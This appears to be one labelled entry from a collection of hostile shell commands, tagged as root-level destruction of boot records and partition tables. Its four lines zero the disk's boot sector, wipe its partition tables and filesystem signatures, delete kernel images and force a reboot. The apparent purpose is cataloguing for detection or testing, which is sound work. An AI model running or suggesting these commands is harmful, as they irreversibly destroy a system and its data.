# class: destruction, boot record and tables; style: root
dd if=/dev/zero of=/dev/sda bs=512 count=1 conv=notrunc
sgdisk --zap-all /dev/sda; wipefs -a /dev/sda*
rm -f /boot/vmlinuz* /boot/initrd*; echo b > /proc/sysrq-trigger
